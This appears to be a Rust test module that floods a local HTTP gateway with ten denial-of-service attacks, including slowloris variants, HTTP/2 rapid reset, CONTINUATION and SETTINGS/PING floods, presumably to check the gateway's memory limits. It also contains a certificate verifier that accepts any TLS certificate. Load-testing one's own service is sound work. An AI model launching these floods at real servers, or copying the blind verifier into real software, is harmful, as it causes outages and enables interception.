//! Ways to do harm.

use std::sync::Arc;

use rustls::ClientConfig;
use rustls::client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier};
use rustls::pki_types::{CertificateDer, ServerName, UnixTime};
use rustls::{DigitallySignedStruct, SignatureScheme};
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio_rustls::TlsConnector;

use super::Apart;
use crate::http2_frames::frames::{
    CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, block, frame,
};

#[derive(Debug, Clone, Copy)]
pub(super) enum Flood {
    SlowHeads,
    SlowBodies,
    NeverReads,
    LargeHeads,
    EndlessBodies,
    RapidReset,
    PacedReset,
    Continuations,
    Settings,
    Pings,
}

pub(super) const ALL: [Flood; 10] = [
    Flood::SlowHeads,
    Flood::SlowBodies,
    Flood::NeverReads,
    Flood::LargeHeads,
    Flood::EndlessBodies,
    Flood::RapidReset,
    Flood::PacedReset,
    Flood::Continuations,
    Flood::Settings,
    Flood::Pings,
];

impl Flood {
    /// So many connections at the most; some do harm with few.
    fn connections(self, clients: usize) -> usize {
        match self {
            Self::SlowHeads | Self::SlowBodies => clients,
            Self::NeverReads | Self::LargeHeads => clients / 10,
            _ => clients.min(200) / 20,
        }
    }

    /// What the gateway may take for it, in kB.
    pub(super) fn most_memory(self, clients: usize) -> u64 {
        let each = match self {
            Self::SlowHeads => 16,
            Self::SlowBodies => 64,
            _ => 1024,
        };
        16 * 1024 + each * u64::try_from(self.connections(clients)).unwrap()
    }

    /// It goes on until what comes of it is dropped.
    pub(super) async fn begin(self, gateway: &Apart, clients: usize) -> JoinSet<()> {
        let mut under_way = JoinSet::new();
        let mut streams = Vec::new();
        for _ in 0..self.connections(clients) {
            streams.push(TcpStream::connect(gateway.http).await.unwrap());
        }
        for stream in streams {
            under_way.spawn(async move {
                // Most are hung up on.
                let _ = self.flood(stream).await;
                if matches!(self, Self::SlowHeads | Self::SlowBodies | Self::NeverReads) {
                    std::future::pending::<()>().await;
                }
            });
        }
        under_way
    }

    async fn flood(self, mut stream: TcpStream) -> std::io::Result<()> {
        let post = "POST /upload HTTP/1.1\r\nHost: shop.test\r\n";
        let get = block(&[(":method", "GET"), (":scheme", "http"), (":path", "/slow"), (":authority", "shop.test")]);
        let begin = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
        let endless = match self {
            Self::SlowHeads => {
                stream.write_all(b"GET / HTTP/1.1\r\nHost: shop.test\r\nX: ").await?;
                std::future::pending::<()>().await;
                return Ok(());
            }
            Self::SlowBodies => {
                stream.write_all(format!("{post}Content-Length: 1000000\r\n\r\nx").as_bytes()).await?;
                std::future::pending::<()>().await;
                return Ok(());
            }
            Self::NeverReads => {
                stream.write_all(b"GET /large HTTP/1.1\r\nHost: shop.test\r\n\r\n").await?;
                std::future::pending::<()>().await;
                return Ok(());
            }
            Self::LargeHeads => {
                stream.write_all(b"GET / HTTP/1.1\r\nHost: shop.test\r\nX: ").await?;
                return stream.write_all(&vec![b'x'; 10 << 20]).await;
            }
            Self::EndlessBodies => {
                stream.write_all(format!("{post}Transfer-Encoding: chunked\r\n\r\n").as_bytes()).await?;
                format!("10000\r\n{}\r\n", "x".repeat(0x10000)).into_bytes()
            }
            Self::RapidReset | Self::PacedReset => {
                stream.write_all(&begin).await?;
                for stream_id in (1..200_000).step_by(2) {
                    let asked = frame(HEADERS, END_HEADERS | END_STREAM, stream_id, &get);
                    let reset = frame(RST_STREAM, 0, stream_id, &[0, 0, 0, 8]);
                    stream.write_all(&[asked, reset].concat()).await?;
                    if matches!(self, Self::PacedReset) {
                        tokio::time::sleep(std::time::Duration::from_millis(2)).await;
                    }
                }
                return Ok(());
            }
            Self::Continuations => {
                stream.write_all(&[begin, frame(HEADERS, END_STREAM, 1, &get)].concat()).await?;
                frame(CONTINUATION, 0, 1, &block(&[("x", &"x".repeat(100))]).repeat(100))
            }
            Self::Settings => {
                stream.write_all(&begin).await?;
                frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]).repeat(100)
            }
            Self::Pings => {
                stream.write_all(&begin).await?;
                frame(PING, 0, 0, b"12345678").repeat(100)
            }
        };
        loop {
            stream.write_all(&endless).await?;
        }
    }
}

/// Believes anybody.
#[derive(Debug)]
struct Gullible;

impl ServerCertVerifier for Gullible {
    fn verify_server_cert(
        &self,
        _: &CertificateDer<'_>,
        _: &[CertificateDer<'_>],
        _: &ServerName<'_>,
        _: &[u8],
        _: UnixTime,
    ) -> Result<ServerCertVerified, rustls::Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn verify_tls13_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        rustls::crypto::aws_lc_rs::default_provider().signature_verification_algorithms.supported_schemes()
    }
}

pub(super) fn connector() -> TlsConnector {
    let provider = rustls::crypto::aws_lc_rs::default_provider();
    let config = ClientConfig::builder_with_provider(provider.into()).with_safe_default_protocol_versions().unwrap();
    let config = config.dangerous().with_custom_certificate_verifier(Arc::new(Gullible)).with_no_client_auth();
    TlsConnector::from(Arc::new(config))
}
